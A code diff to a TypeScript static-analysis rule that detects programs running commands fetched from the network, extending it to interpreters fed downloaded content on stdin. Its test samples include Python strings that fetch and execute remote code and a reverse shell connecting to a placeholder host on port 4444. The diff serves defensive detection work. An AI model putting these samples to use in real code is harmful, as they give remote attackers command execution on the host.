@@ -292,18 +292,36 @@ export const remoteCommand: CodeRule = {
       'import os, requests\nos.system(requests.get(u).text)',
       'import socket, subprocess\ns = socket.socket()\ns.connect(("example.test", 4444))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.check_output(cmd, shell=True))',
       'import requests, subprocess\ndef task():\n    return requests.get(u).json()["cmd"]\nsubprocess.Popen(["bash", "-c", task()])',
+      'import subprocess, requests\nsubprocess.run(["sh"], input=requests.get(u).content)',
+      'import subprocess, sys, requests\np = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\np.communicate(requests.get(u).content)',
     ],
     harmless: [
       'import requests, subprocess\nname = requests.get(u).text\nsubprocess.run(["ffmpeg", "-i", name])',
+      'import requests, subprocess\nsubprocess.run(["ffmpeg", "-i", "-"], input=requests.get(u).content)',
       'import subprocess\nsubprocess.run(["git", "pull"])',
     ],
   },
-  find: (facts) =>
-    processHits(facts, (command, call) =>
-      !isInstall(command) && decides(call, 'network')
+  *find(facts) {
+    yield* processHits(facts, (command, call) => {
+      const isRemote =
+        decides(call, 'network') || (isShell(call) && has(call.keywords.get('input'), 'network'))
+      return !isInstall(command) && isRemote
         ? { message: 'Runs a command that comes from the network.' }
-        : undefined,
-    ),
+        : undefined
+    })
+    // Which process is written to is not known: any of the file that reads what it runs.
+    if (!facts.calls.some((call) => isProgramStart(call) && isShell(call))) return
+    for (const call of facts.calls)
+      if (/Popen\(\)\.(communicate|stdin\.write)$/.test(call.name) && has(call.args[0], 'network'))
+        yield { line: call.line, message: 'Gives an interpreter what comes from the network.' }
+  },
+}
+
+/** An interpreter that is given no file, and so runs what it reads. */
+function isShell(call: Call): boolean {
+  const [program = '', ...rest] = commandOf(call).split(/\s+/)
+  const runs = /^(python\d?(\.\d+)?|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php)$/
+  return runs.test(programOf(program)) && rest.every((word) => /^-/.test(word))
 }
 
 export const downloadedProgram: CodeRule = {
